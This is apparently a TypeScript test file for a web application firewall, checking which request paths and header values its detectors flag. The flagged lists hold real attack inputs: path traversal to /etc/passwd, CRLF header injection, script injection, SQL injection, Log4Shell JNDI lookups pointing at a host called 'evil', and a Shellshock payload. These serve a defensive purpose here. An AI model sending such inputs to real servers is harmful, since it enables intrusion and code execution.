import { expect, test } from 'bun:test'
import { isHeaderAttack, isPathAttack } from './waf.ts'

test.each([
  '/..%2f..%2fetc',
  '/..%2F',
  '/%2e%2e%2fetc',
  '/%252e%252e%252fetc',
  '/a/..\\..\\b',
  '/..%5cwindows',
  '/a/..',
  '/a%00.html',
  '/a%0d%0aSet-Cookie:x',
  '/a\u0001b',
  '/<script>alert(1)</script>',
  "/x'%20or%201=1".replaceAll('%20', ' '),
  '/union+select+1',
  '/etc/passwd',
])('the path %p looks like an attack', (path) => {
  expect(isPathAttack(path)).toBe(true)
})

test.each([
  '/',
  '/api/v3/order',
  '/api/v3/nothing',
  '/assets/app-4f2.js',
  '/stream',
  '/socket.io/',
  '/favicon.ico',
  '/docs/v1.2..3/notes',
  '/a..b',
  '/%C3%BC',
  '/well-known/a%20b',
])('the path %p does not look like an attack', (path) => {
  expect(isPathAttack(path)).toBe(false)
})

test.each([
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '${jndi:ldap://evil/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '${${lower:j}ndi:ldap://evil/a}',
  '() { :;}; /bin/bash -c id',
  '<script>alert(1)</script>',
  "' OR '1'='1",
  '1 UNION ALL SELECT password',
  '../../../../etc/passwd',
  'a\u0000b',
  'a\u001b[31m',
])('the header %p looks like an attack', (value) => {
  expect(isHeaderAttack(value)).toBe(true)
})

test.each([
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'PostmanRuntime/7.39.0',
  'Go-http-client/1.1',
  'node',
  '*/*',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8',
  'tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7',
  '"Not/A)Brand";v="8", "Chromium";v="126"',
  'https://example.com/select?union=labour&or=1#a',
  'session=eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ.x_y-z; theme=dark; list=[1,2]; o={"a":1}',
  'W/"67ab43", "54ed21"',
  'Bearer abc.def==',
  'application/x-www-form-urlencoded; charset=UTF-8',
  'permessage-deflate; client_max_window_bits',
  'a\tb',
  'Zoë’s client',
  '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
])('the header %p does not look like an attack', (value) => {
  expect(isHeaderAttack(value)).toBe(false)
})

test.each([
  ['() {', ' '],
  ['() {', '() {'],
  ['() {}', ' '],
  ["'", ' '],
  ['union+', '+'],
  ['${ ', '${'],
  ['..', '/.'],
])('a text of %p and many %p is judged at once, so that it cannot keep the server busy', (start, filler) => {
  // A linear search takes milliseconds; the slow patterns that this test once found would run into the
  // runner's timeout.
  const half = 16 * 1024
  const hostile = `${start.repeat(half / start.length)}${filler.repeat(half / filler.length)}x`
  expect(typeof isHeaderAttack(hostile)).toBe('boolean')
  expect(typeof isPathAttack(hostile)).toBe('boolean')
})
